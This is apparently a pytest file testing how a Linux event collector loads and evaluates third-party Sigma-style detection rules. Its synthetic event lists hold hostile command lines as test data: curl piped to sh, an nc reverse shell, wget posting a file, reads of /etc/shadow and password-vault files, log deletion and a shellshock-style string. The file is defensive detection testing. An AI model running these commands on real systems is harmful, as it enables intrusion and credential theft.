"""Rules by others: a set in the style of SigmaHQ's, written for this test, on a list of events."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from collector.errors import RuleError
from collector.sigma.foreign import with_foreign
from collector.sigma.rule import RuleSet
from tests.collector.sigma.sigmas import findings, shipped, told

HERE = Path(__file__).parent / "foreign"
NONE = RuleSet((), "0" * 64)

GOLDEN = (
    'install target 30 process.exec image=/usr/bin/python3 argv=["python3"] parent=20 parent_image=/usr/bin/pip',
    'install target 31 process.exec image=/bin/sh argv=["sh","-c","curl http://x.test/i | sh"] parent=30',
    'install target 32 process.exec image=/bin/echo argv=["echo","eHNlY3JldC1tYXJrZXJ4"] parent=31',
    'install target 33 process.exec image=/bin/echo argv=["echo","xx1234yy"] parent=31',
    "install target 31 file.write path=/etc/cron.d/job created=true",
    "install target 31 file.write path=/var/spool/cron/crontabs/dev",
    "install target 31 network.connect ip=203.0.113.9 port=9001",
    "install target 31 network.connect ip=2001:db8::5 port=8443",
    'install target 31 dns.query name=a.tunnel.example answers=["192.0.2.7"]',
    "install target - http.request method=POST host=x.test target=/a/b.zip?q=1 user_agent=BadAgent/1.0 status=200",
    'install target 34 process.exec image=/usr/bin/wget argv=["wget","--post-file=/x"] parent=31',
    "install target 30 memory.file name=x",
    'install target 35 process.exec image=/bin/nc argv=["nc","192.0.2.1","-e","/bin/sh"] parent=31',
    "install target 31 file.rename path=/home/dev/a.locked old=/home/dev/a",
    "install target 31 file.read path=/etc/shadow",
    "install target 31 file.delete path=/var/log/syslog",
    "install target 31 file.read path=/home/dev/1.kdbx",
    "install target 31 file.read path=/home/dev/2.kdbx",
    "install target 31 file.read path=/home/dev/3.kdbx",
    "install target 31 file.write path=/home/dev/.hidden created=true",
    r'install target 31 kernel.call call=mknod args="\"/tmp/d\", S_IFCHR|0666, makedev(0x1, 0x3)"',
    'install target 41 process.exec image=/bin/cp argv=["cp","-i","/bin/sh","/tmp/atd"] parent=31',
    'install target 42 process.exec image=/usr/bin/truncate argv=["truncate","-s","9","f"] parent=31',
    'install target 43 process.exec image=/bin/dd argv=["dd","if=/dev/zero"] parent=31',
    'install target 44 process.exec image=/bin/mkdir argv=["mkdir","-p","/tmp/.x"] parent=31',
    "install target 31 file.read path=/home/dev/.zshrc",
    "install target 31 file.write path=/etc/profile.d/x.sh",
    "install target 30 network.connect ip=169.254.169.254 port=80",
    "install target 31 network.connect ip=198.51.100.7 port=4444",
    f"install target 31 file.write path=/tmp/{'a' * 45}",
    "install target 31 file.write path=/tmp/x{echo,y}",
    'install target 45 process.exec image=/bin/sh argv=["sh","-c","x=\'() { :; }; id\' y"] parent=31',
    'install target 46 process.exec image=/bin/chmod argv=["chmod","700","/tmp/x"] parent=31',
)  # fmt: skip
FIRED = {
    "Download Piped To Shell": 1,
    "Encoded Marker In Command Line": 2,
    "Cron File Written": 2,
    "Connection To A Documentation Network": 2,
    "Query For A Tunnel Host": 1,
    "Odd User Agent With Archive": 1,
    "Auditd Wget With Post File": 1,
    "Auditd Hidden File Created": 1,
    "Auditd Memory File By Interpreter": 1,
    "Suspicious Words Anywhere": 1,
    "Renamed To Ransom Ending": 1,
    "One Of Two": 2,
    "Many Archives Read By One User": 3,
    "Cron Written Then Connection": 2,
    "Auditd Device Made By Number": 1,
    "Auditd Shell Copied To A Daemon": 1,
    "Auditd File Filled Up": 2,
    "Auditd Hidden Directory Made": 1,
    "Auditd Shell Settings": 2,
    "Metadata Asked By An Interpreter": 1,
    "Odd Port Outside": 1,
    "Long File Name": 1,
    "Braces In File Name": 1,
    "Odd Words Anywhere": 1,
    "Mode Changed In Temporary Directory": 1,
}
"""By title, how many events show it; two rules are called `One Of Two`."""
QUIET = (
    'install target 30 process.exec image=/usr/bin/python3 argv=["python3"] parent=20 parent_image=/usr/bin/pip',
    'install target 31 process.exec image=/bin/sh argv=["sh","-c","curl http://docs.example/i | sh"] parent=30',
    'install target 36 process.exec image=/bin/sh argv=["sh","-c","curl http://x.test/i | sh"]',
    'install target 37 process.exec image=/bin/sh argv=["sh","-c","curl http://x.test/i | sh"] parent=30 errno=ENOENT',
    'install installer 38 process.exec image=/bin/sh argv=["sh","-c","curl http://x.test/i | sh"] parent=30',
    "install target 31 file.write path=/etc/crontab",
    "install target 31 file.write path=/etc/cron.d/job errno=EACCES",
    "install target 31 network.connect ip=203.0.113.200 port=9001",
    "install target 31 network.connect ip=203.0.113.9 port=443",
    'install target 31 dns.query name=a.tunnel.example answers=["198.51.100.7"]',
    "install target - http.request method=GET host=x.test target=/a/b.zip?q=1 user_agent=BadAgent/1.0 status=200",
    'install target 34 process.exec image=/usr/bin/wget argv=["wget","-q","--post-file=/x"] parent=31',
    "install target 31 memory.file name=x",
    "install target 31 file.rename path=/home/dev/b.locked old=/home/dev/a.locked",
    'install target 40 process.exec image=/bin/login argv=["login"] parent=31',
    "install target 40 file.read path=/etc/shadow",
    "install target 31 file.read path=/home/dev/1.kdbx",
    "install target 31 file.read path=/home/dev/2.kdbx",
    "install target 31 file.read path=/home/dev/1.kdbx",
    "install target 31 file.read path=/home/dev/.hidden",
    r'install target 31 kernel.call call=mount args="\"/tmp/d\""',
    'install target 41 process.exec image=/bin/cp argv=["cp","/bin/sh","-i","/tmp/atd"] parent=31',
    'install target 42 process.exec image=/usr/bin/truncate argv=["truncate","--reference=x","f"] parent=31',
    'install target 43 process.exec image=/bin/dd argv=["dd","if=/dev/zero","of=x"] parent=31',
    'install target 44 process.exec image=/bin/mkdir argv=["mkdir","-p","x","/tmp/.x"] parent=31',
    "install target 31 file.read path=/home/.zshrc",
    "install target 31 file.write path=/etc/profile.d",
    "install target 31 network.connect ip=169.254.169.254 port=80",
    "install target 31 network.connect ip=fe80::7 port=4444",
    "install target 31 network.connect ip=10.9.9.9 port=888",
    f"install target 31 file.write path=/tmp/{'a' * 39}",
    "install target 31 file.write path=/tmp/echo,y",
    'install target 45 process.exec image=/bin/sh argv=["sh","-c","x=(){ :; } y"] parent=31',
    'install target 46 process.exec image=/bin/chmod argv=["chmod","700","/tmp/apt-key-gpghome.x"] parent=31',
)  # fmt: skip
SKIPPED = {
    "windows.yml": "the pod is Linux, not windows",
    "sshd.yml": "no log of the service sshd",
    "webserver.yml": "nothing in a pod answers to the category webserver",
    "logon_id.yml": "field LogonId of process_creation: a pod has no login sessions",
    "audit_key.yml": "it names a rule of the machine's own audit.rules",
    "audit_register.yml": "arguments of system calls as numbers are not kept",
    "audit_daemon.yml": "it can match no event that there is",
    "placeholder.yml": "nothing fills in the placeholder",
    "lookaround.yml": "Regular expression",
    "old_count.yml": "deprecated",
    "retired.yml": "its author calls it deprecated",
    "hour.yml": "no calendar time",
    "lost_base.yml": "nowhere",
    "base_skipped.yml": "its base rule 'logons' cannot run",
    "value_sum.yml": "are not evaluated",
    "not_a_rule.yml": "it is not a Sigma rule",
    "broken.yml": "not YAML",
    "audit_call_number.yml": "it can match no event",
    "audit_call_name.yml": "it can match no event",
    "audit_uid.yml": "field uid of auditd: events have nothing of the kind",
    "modifier.yml": "Unknown modifier",
    "windows_only_field.yml": "field OriginalFileName of process_creation: events have nothing of the kind",
}


def test_those_that_must_fire_do_and_no_others() -> None:
    rules = with_foreign(NONE, [HERE / "linux"])
    assert rules.skipped == ()
    counts: dict[str, int] = {}
    for finding in findings(rules.rules, told(*GOLDEN)):
        counts[finding.title] = counts.get(finding.title, 0) + finding.count
    assert counts == FIRED


def test_near_misses_do_not_fire() -> None:
    rules = with_foreign(NONE, [HERE / "linux"])
    assert [(it.title, it.evidence) for it in findings(rules.rules, told(*QUIET))] == []


def test_what_cannot_run_is_skipped_with_the_reason() -> None:
    rules = with_foreign(NONE, [HERE / "skipped"])
    assert rules.rules == ()
    reasons: dict[str, list[str]] = {}
    for it in rules.skipped:
        reasons.setdefault(it.path, []).append(it.reason)
    assert set(reasons) == set(SKIPPED)
    assert {name: reasons[name] for name, part in SKIPPED.items() if not any(part in it for it in reasons[name])} == {}


def test_they_tell_about_themselves_and_are_on_trial() -> None:
    rules = with_foreign(NONE, [HERE / "linux"])
    [piped] = [rule for rule in rules.rules if rule.title == "Download Piped To Shell"]
    assert piped.name == "linux/proc_creation_lnx_pipe_to_shell"
    assert piped.path == "proc_creation_lnx_pipe_to_shell.yml"
    assert (piped.level, piped.attack) == ("critical", ("T1059.004",))
    assert piped.why == "Detects a download that is piped into a shell."
    assert all(rule.nursery and rule.foreign for rule in rules.rules)
    assert len({rule.name for rule in rules.rules}) == len(rules.rules)


def test_ours_come_first_and_the_digest_covers_all(tmp_path: Path) -> None:
    ours = shipped()
    both = with_foreign(ours, [HERE / "linux", HERE / "skipped"])
    assert both.rules[: len(ours.rules)] == ours.rules
    assert len(both.rules) > len(ours.rules)
    assert len(both.skipped) >= len(SKIPPED)
    assert both.digest == with_foreign(ours, [HERE / "linux", HERE / "skipped"]).digest
    copy = tmp_path / "linux"
    shutil.copytree(HERE / "linux", copy)
    (copy / "more.txt").write_text("no rule")
    assert with_foreign(ours, [copy]).digest == with_foreign(ours, [HERE / "linux"]).digest
    (copy / "proxy_ua.yml").unlink()
    assert with_foreign(ours, [copy]).digest != with_foreign(ours, [HERE / "linux"]).digest
    assert with_foreign(ours, []).digest == ours.digest


def test_the_same_rules_twice_are_skipped_the_second_time() -> None:
    once = with_foreign(NONE, [HERE / "linux"])
    twice = with_foreign(NONE, [HERE / "linux", HERE / "linux"])
    assert twice.rules == once.rules or [rule.name for rule in twice.rules] == [rule.name for rule in once.rules]
    assert {it.reason.split(" linux/")[0] for it in twice.skipped} == {"there is a rule"}


def test_a_directory_without_rules_is_refused(tmp_path: Path) -> None:
    with pytest.raises(RuleError, match="there are no rules"):
        with_foreign(NONE, [tmp_path])


@pytest.mark.parametrize("condition", ["null", "[null]", '"' + "not " * 3000 + 'a"'])
def test_a_condition_that_nobody_can_read_is_skipped(tmp_path: Path, condition: str) -> None:
    head = "title: Odd\nlogsource: {{product: linux, category: process_creation}}\n"
    text = head + "detection: {{a: {{Image: x}}, condition: {}}}\n"
    (tmp_path / "odd.yml").write_text(text.format(condition))
    (tmp_path / "sound.yml").write_text(text.format("a").replace("Odd", "Sound"))
    made = with_foreign(NONE, [tmp_path])
    assert [rule.title for rule in made.rules] == ["Sound"]
    assert [skipped.path for skipped in made.skipped] == ["odd.yml"]
